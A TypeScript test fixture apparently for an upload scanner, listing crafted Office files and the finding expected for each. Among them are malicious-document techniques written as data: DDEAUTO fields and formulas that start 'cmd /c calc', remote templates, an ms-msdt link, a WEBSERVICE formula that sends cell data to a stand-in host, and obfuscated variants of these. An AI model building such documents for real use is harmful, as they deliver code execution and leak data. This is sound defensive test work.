import type { FileFinding } from "@/lib/domain/submissions/evidence";
import {
  declares,
  docx,
  excelStream,
  type Labelled,
  ole,
  png,
  wordStream,
  xlsx,
  zip,
} from "./files.fixture";

// Documents and tables as an attacker would make them, and the ordinary ones that look nearly like that.

type Part = Parameters<typeof zip>[0][number];
const word = (what: string, finding: FileFinding | "taken", ...parts: Part[]): Labelled => [
  ...([what, "a.docx", docx(parts), finding] as const),
];
const table = (what: string, finding: FileFinding | "taken", ...parts: Part[]): Labelled => [
  ...([what, "a.xlsx", xlsx(parts), finding] as const),
];

const part = (name: string, data: string | Buffer): Part => ({ name, data });
const relations = (inside: string) =>
  part(
    "word/_rels/document.xml.rels",
    `<?xml version="1.0"?><Relationships>${inside}</Relationships>`,
  );
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const microsoft = "http://schemas.microsoft.com/office/2006/relationships";
const relation = (type: string, target: string, mode: string) =>
  `<Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="${mode}"/>`;
const outside = (type: string, target: string) =>
  relations(relation(`${office}/${type}`, target, "External"));
const within = (type: string, from = office) =>
  relations(relation(`${from}/${type}`, "a.xml", "Internal"));
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

const text = (inside: string) => part("word/header1.xml", `<w:hdr><w:p>${inside}</w:p></w:hdr>`);
const marks = { "{": "begin", "|": "separate", "}": "end" };
/** A field as Word keeps it: braces begin and end one, a bar parts instruction and result. */
const field = (...pieces: string[]) =>
  text(
    pieces
      .map((piece) =>
        piece in marks
          ? `<w:fldChar w:fldCharType="${marks[piece as keyof typeof marks]}"/>`
          : `<w:instrText>${piece}</w:instrText>`,
      )
      .join(""),
  );

export const words: Labelled[] = [
  word("a link that somebody clicks", "taken", outside("hyperlink", "https://www.gov.cn/")),
  word("a page number", "taken", field("{", " PAGE ", "|", "}")),
  word("a field within a field", "taken", field("{", " IF ", "{", "PAGE", "}", "&gt; 1 a b", "}")),
  word("a table behind a chart", "taken", part("word/embeddings/Sheet1.xlsx", xlsx())),
  word("a picture inside", "taken", part("word/media/image1.png", png)),
  word("a drawing that is nearly XML", "taken", part("a.vml", "<xml><br><v:shape a=b></xml>")),
  word("a template from elsewhere", "remote", outside("attachedTemplate", "http://a/t.dotm")),
  word(
    "the same in another encoding",
    "remote",
    part("a.rels", utf16(`<a>${relation("a/attachedTemplate", "http://a/t", "External")}</a>`)),
  ),
  word(
    "the same in escapes and another prefix",
    "remote",
    relations('<r:Relationship Type="a/att&#97;chedTemplate" TargetMode="External" Target="x"/>'),
  ),
  word(
    "an encoding that nobody writes",
    "unreadable",
    part("a.rels", '<?xml version="1.0" encoding="UTF-7"?><Relationships/>'),
  ),
  word("relationships that are no XML", "unreadable", part("word/_rels/a.xml.rels", "x")),
  word(
    "entities of its own",
    "unreadable",
    part("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
  ),
  word("a picture fetched", "remote", outside("image", "http://a/p.png")),
  word("a page in a frame", "remote", outside("frame", "http://a/")),
  word("a link into a program", "remote", outside("hyperlink", "ms-msdt:/id")),
  word("an object linked", "embedded", outside("oleObject", "mhtml:http://a!x")),
  word("an object inside", "embedded", within("oleObject")),
  word("an object under another name", "embedded", part("word/media/image9.png", ole("Contents"))),
  word("another document poured in", "embedded", within("aFChunk")),
  word("a control", "embedded", within("control")),
  word("a program inside", "embedded", part("word/media/a.emf", "MZ\x90\0")),
  word("an archive inside", "embedded", part("a.zip", zip([part("a.js", "x")]))),
  word(
    "a document in a document in a document",
    "embedded",
    part("word/embeddings/a.docx", docx([part("word/embeddings/b.docx", docx())])),
  ),
  word("macros in a table inside", "macro", part("a.xlsx", xlsx([part("xl/vbaProject.bin", "x")]))),
  word("macros under another name", "macro", part("word/media/image1.jpeg", ole("VBA", "dir"))),
  word("macros by another spelling", "macro", part("word/VBAPROJECT.BIN", "x")),
  word(
    "macros by content type",
    "macro",
    part("x.xml", '<a><Default ContentType="application/vnd.ms-office.VBAProject"/></a>'),
  ),
  word("macros by their relationship", "macro", within("vbaProject", microsoft)),
  word("a field that starts a program", "remote", field("{", 'DDEAUTO c:\\a "b"', "}")),
  word("the same in pieces", "remote", field("{", " D", "DE", "AUTO a b", "|", "}")),
  word("the same in one element", "remote", text('<w:fldSimple w:instr=" DDE a b"/>')),
  word("the same as raw characters", "remote", field("{", "<![CDATA[DDE a]]>", "}")),
  word("the same without an end", "remote", field("{", "DDEAUTO a b")),
  word(
    "its name written by another field",
    "remote",
    field("{", "{", "QUOTE 68 68 69", "}", " a b", "}"),
  ),
  word("a field that fetches a picture", "remote", field("{", 'INCLUDEPICTURE "http://a"', "}")),
];

const formula = (inside: string) => part("xl/worksheets/sheet1.xml", `<c><f>${inside}</f></c>`);

export const tables: Labelled[] = [
  table("sums", "taken", formula("SUM(A1:A9)+IF(B1&gt;0,1,2)")),
  table("words with a bar", "taken", formula('IF(A1&gt;0,"是|好!","")')),
  table("another workbook", "remote", within("externalLink")),
  table(
    "another program's data",
    "remote",
    part("xl/a.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
  ),
  table("a database", "remote", within("connections")),
  table("a query", "remote", within("queryTable")),
  table("an address asked", "remote", formula('_xlfn.WEBSERVICE("http://a/"&amp;A1)')),
  table("the same in escapes", "remote", formula("WEBSERV&#73;CE(A1)")),
  table("a program as a formula", "remote", formula("cmd|'/c calc'!A0")),
  table("a sheet of old macros", "macro", within("xlMacrosheet", microsoft)),
  [
    "the same by content type",
    "a.xlsx",
    zip([declares("application/vnd.ms-excel.macrosheet+xml")]),
    "macro",
  ],
  [
    "a workbook that may hold macros",
    "a.xlsx",
    zip([declares("application/vnd.ms-excel.sheet.macroEnabled.main+xml")]),
    "macro",
  ],
];

const oldWord = (
  what: string,
  finding: FileFinding | "taken",
  ...[given]: Parameters<typeof wordStream>
): Labelled => [
  ...([what, "a.doc", ole({ name: "WordDocument", data: wordStream(given) }), finding] as const),
];
const oldTable = (
  what: string,
  finding: FileFinding | "taken",
  ...records: Parameters<typeof excelStream>
): Labelled => [
  ...([what, "a.xls", ole({ name: "Workbook", data: excelStream(...records) }), finding] as const),
];

export const old: Labelled[] = [
  oldWord("an ordinary text", "taken", { text: "\x13 PAGE \x14" }),
  oldWord("a text with a password", "password", { flags: 0x0100 }),
  oldWord("an obfuscated text", "password", { flags: 0x8100 }),
  oldWord("a field that starts a program", "remote", { text: "\x13 DDEAUTO cmd" }),
  ["an object inside", "a.doc", ole("WordDocument", "ObjectPool"), "embedded"],
  ["macros in capitals", "a.doc", ole("WordDocument", "MACROS"), "macro"],
  oldTable("an ordinary table", "taken", [0x85, "000000000000"], [0x1ae, "01000104"]),
  oldTable("a table with a password", "password", [0x2f, "0100"]),
  oldTable("a sheet of old macros", "macro", [0x85, "000000000001"]),
  oldTable("another workbook", "remote", [0x1ae, "01000500"]),
  oldTable("a query", "remote", [0x1ad, "00"]),
  [
    "an archive behind",
    "a.xls",
    Buffer.concat([ole("Workbook"), zip([part("a", "a")])]),
    "trailing",
  ],
];
